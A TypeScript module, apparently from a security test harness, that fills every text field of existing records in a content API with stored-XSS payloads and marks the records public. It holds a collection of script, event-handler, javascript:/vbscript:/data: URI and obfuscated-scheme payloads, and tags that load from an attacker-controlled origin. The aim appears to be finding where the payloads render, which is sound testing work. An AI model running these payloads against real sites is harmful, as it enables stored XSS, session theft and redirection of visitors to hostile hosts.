import { updatable, type AttackedResource, type KnownRecord } from './resources.ts'
import { fieldsOfKind, reads, acceptsText } from './targets.ts'

/** A call as staff, by any transport: `call('PUT news-item/1', { perex: 'New' })`. */
type StaffCall = (
  route: string,
  fields?: Record<string, unknown>,
) => Promise<{ status: number; body: unknown }>

/** In every poisoned text, to find where it is shown. */
export const MARK = 'zqpoison'

/** An XSS payload in one line, short enough for every text field. */
const POISONED_LINE = `${MARK} </script><script>alert(1)</script><!--<img src=x onerror=alert(2)>"onload="alert(3)' \${alert(4)}`

/** XSS payloads as markdown, with everything that could load from the given address. */
function poisonedMarkdown(evilOrigin: string): string {
  const schemes = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(2)',
    'vbscript:x',
    'data:text/html,<script>alert(3)</script>',
    'file:///etc/passwd',
  ]
  return [
    POISONED_LINE,
    ...schemes.map((address) => `[link](${address}) [link](<${address}>) ![image](${address}) <${address}>`),
    ...['java\tscript:alert(4)', '&#106;avascript:alert(5)', 'javascript&colon;alert(6)'].map(
      (address) => `[link](${address})`,
    ),
    `![image](${evilOrigin}/image.png) [reference][evil]`,
    `<iframe srcdoc="<script>alert(7)</script>"></iframe><iframe src="${evilOrigin}/frame"></iframe>`,
    `<svg onload=alert(8)><style>@import '${evilOrigin}/style.css'</style></svg><base href="${evilOrigin}/">`,
    `<form action="${evilOrigin}/form"><button formaction=javascript:alert(9)>x</button></form>`,
    `<object data="${evilOrigin}/object"></object><embed src="${evilOrigin}/embed"><link rel=stylesheet href="${evilOrigin}/l.css">`,
    `<video src="${evilOrigin}/v"><audio src="${evilOrigin}/a"><meta http-equiv=refresh content="0;url=${evilOrigin}/">`,
    '',
    `[evil]: javascript:alert(10)`,
  ].join('\n\n')
}

/** Poisons every text field of the first records of every resource; returns "key.field" of each that accepted it. */
export function poisonAllTextFields(call: StaffCall, evilOrigin: string): Promise<Set<string>> {
  return fillAllTextFields(call, 2, () => [poisonedMarkdown(evilOrigin), POISONED_LINE])
}

/**
 * Fills every text field of the first records of every resource with the first candidate text that it accepts.
 * Returns "key.field" of each filled field.
 */
export async function fillAllTextFields(
  call: StaffCall,
  maxRecords: number,
  textsFor: (field: string) => string[],
): Promise<Set<string>> {
  const filled = new Set<string>()
  const records = await listedRecords(call)
  for (const resource of updatable) {
    for (const record of (records.get(resource.key) ?? []).slice(0, maxRecords)) {
      for (const name of await fillRecord(call, resource, record, textsFor))
        filled.add(`${resource.key}.${name}`)
    }
  }
  return filled
}

/** Updates all fields in one call; if that is refused, one field per call. */
async function fillRecord(
  call: StaffCall,
  resource: AttackedResource,
  { id }: KnownRecord,
  textsFor: (field: string) => string[],
) {
  const update = resource.calls.update!
  const fields = fieldsOfKind(update, 'string').flatMap((name) => {
    const text = textsFor(`${resource.key}.${name}`).find((one) => acceptsText(update, name, one))
    return text === undefined ? [] : [[name, text] as const]
  })
  const save = async (sent: (readonly [string, string])[]) => {
    const { status } = await call(update.route({ id }), {
      ...Object.fromEntries(sent),
      ...publicValues(resource),
    })
    return status === 200 ? sent.map(([name]) => name) : undefined
  }
  return (
    (await save(fields)) ??
    (await Promise.all(fields.map((field) => save([field])))).flatMap((names) => names ?? [])
  )
}

/** The values that make a record public. */
function publicValues({ fields }: AttackedResource): Record<string, unknown> {
  const values = { is_online: true, is_archived: false, published: '2020-01-01 00:00' }
  return Object.fromEntries(Object.entries(values).filter(([name]) => name in fields.shape))
}

/** The records of every resource, from the first call that lists some. */
async function listedRecords(call: StaffCall): Promise<Map<string, KnownRecord[]>> {
  const found = new Map<string, KnownRecord[]>()
  for (const { route } of reads.filter(({ parameters }) => parameters.every((name) => name === 'limit'))) {
    const { body } = await call(route({ limit: 200 }))
    for (const [key, records] of Object.entries(body as Record<string, unknown>))
      if (Array.isArray(records) && records.length > 0 && !found.has(key)) found.set(key, records)
  }
  return found
}
